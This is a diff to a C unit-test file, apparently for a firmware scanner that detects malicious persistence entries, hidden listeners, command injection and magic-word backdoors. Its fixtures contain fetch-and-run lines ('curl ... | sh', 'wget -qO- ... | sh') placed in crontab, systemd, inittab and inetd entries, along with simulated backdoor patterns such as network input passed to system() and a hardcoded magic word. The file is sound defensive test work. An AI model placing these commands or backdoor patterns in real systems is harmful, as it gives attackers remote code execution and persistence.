@@ -122,6 +122,11 @@ static void lines_of_cron_and_units_are_read(void **state)
 		{ "var/spool/cron/crontabs/root", "@reboot curl -s http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
 		{ "lib/systemd/system/a.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.5/c | sh'\n", SCENE_UNIT, SEV_HIGH },
 		{ "lib/systemd/system/a.service", "[Service]\nDescription=curl http://203.0.113.5/c | sh\n", SCENE_UNIT, -1 },
+		{ "etc/inittab", "#::respawn:curl http://203.0.113.5/c | sh\n::off:curl http://203.0.113.5/c | sh\n"
+		  "::respawn:-/bin/sh\n", SCENE_INITTAB, -1 },
+		{ "etc/inittab", "::once:/bin/sh -c 'wget -qO- http://203.0.113.5/c | sh'\n", SCENE_INITTAB, SEV_HIGH },
+		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/fetch fetch http://203.0.113.5/c\n", SCENE_INETD, -1 },
+		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/sh sh -c \"curl -s http://203.0.113.5/c | sh\"\n", SCENE_INETD, SEV_HIGH },
 	};
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(tables); i++) {
@@ -370,6 +375,84 @@ static void an_open_unix_socket_counts(void **state)
 		fake_call(&k, CALL_RUN, "system", "command=\"{recv}", NULL);
 		fake_run(&k);
 		assert_int_equal(fake_found(&k, "fw.hidden-listener") != NULL, open);
+		fake_end(&k);
+	}
+}
+
+/* The trace has comparisons with constants alone; of others the path says what was assumed. */
+static void asking_for_what_the_owner_has_set_is_a_log_in(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *key, *condition;
+		bool fires;
+	} cases[] = {
+		{ "a=\"{file:/etc/monitor.conf}", "90f0: goes to 90f4, after strcmp() = 1", false },
+		{ "a=\"{file:/etc/monitor.conf}", "90f0: goes to 90f4, after strcmp() = 0", true },      /* taken when they differ */
+		{ "a=\"{file:/etc/monitor.conf}", "90f0: goes to 90f4, after recv() = 1", true },
+		{ "a=\"{recv}", "90f0: goes to 90f4, after strcmp() = 1", true },                      /* nothing was set */
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "bin/agent");
+		fake_call(&k, CALL_COMPARE, "strncmp", cases[i].key, "b=\"password=", NULL);
+		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=@0.0.0.0/7329", NULL);
+		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
+		fake_path(&k, 2, 1, k.order);
+		record_str(k.paths[0][1], FWP_CONDITION, cases[i].condition);
+		fake_call(&k, CALL_RUN, "system", "command=\"{recv}", NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.hidden-listener") != NULL, cases[i].fires);
+		fake_end(&k);
+	}
+}
+
+static void the_body_of_a_web_request_is_from_the_network(void **state)
+{
+	(void)state;
+	for (int web = 0; web < 2; web++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "www/cgi-bin/trace");
+		fake_call(&k, CALL_CONFIG, "getenv", web ? "name=\"CONTENT_LENGTH" : "name=\"LANG", NULL);
+		fake_call(&k, CALL_RUN, "popen", "command=\"traceroute {stdin}", NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.command-injection") != NULL, web);
+		fake_end(&k);
+	}
+}
+
+static void the_address_of_a_page_is_no_magic_word(void **state)
+{
+	(void)state;
+	static const char *const words[] = { "b=\"/trace", "b=\"open-sesame-77" };
+	for (int i = 0; i < 2; i++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "www/cgi-bin/trace");
+		record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{getenv:PATH_INFO}", words[i], NULL), FWC_RESULT, 0);
+		fake_call(&k, CALL_RUN, "system", "command=\"/bin/date", NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.magic-value") != NULL, i);
+		fake_end(&k);
+	}
+}
+
+static void a_word_on_a_socket_of_the_devices_own_is_no_magic(void **state)
+{
+	(void)state;
+	for (int open = 0; open < 2; open++) {
+		struct fake k;
+		fake_begin(&k);
+		fake_program(&k, "bin/agent");
+		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=u/run/agent", NULL);
+		fake_call(&k, CALL_FILE, "chmod", "path=\"/run/agent", open ? "mode=#0777" : "mode=#0600", NULL);
+		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
+		record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"open-sesame-77", NULL), FWC_RESULT, 0);
+		fake_call(&k, CALL_RUN, "system", "command=\"/bin/backup", NULL);
+		fake_run(&k);
+		assert_int_equal(fake_found(&k, "fw.magic-value") != NULL, open);
 		fake_end(&k);
 	}
 }
@@ -903,6 +986,10 @@ int main(void)
 		cmocka_unit_test(an_interface_that_is_asked_for_is_fine),
 		cmocka_unit_test(listeners_with_a_log_in_are_fine),
 		cmocka_unit_test(an_open_unix_socket_counts),
+		cmocka_unit_test(asking_for_what_the_owner_has_set_is_a_log_in),
+		cmocka_unit_test(the_body_of_a_web_request_is_from_the_network),
+		cmocka_unit_test(the_address_of_a_page_is_no_magic_word),
+		cmocka_unit_test(a_word_on_a_socket_of_the_devices_own_is_no_magic),
 		cmocka_unit_test(a_magic_word_opens_and_a_protocol_word_does_not),
 		cmocka_unit_test(a_magic_word_that_did_not_match_opens_nothing),
 		cmocka_unit_test(a_forced_match_counts_as_a_match),
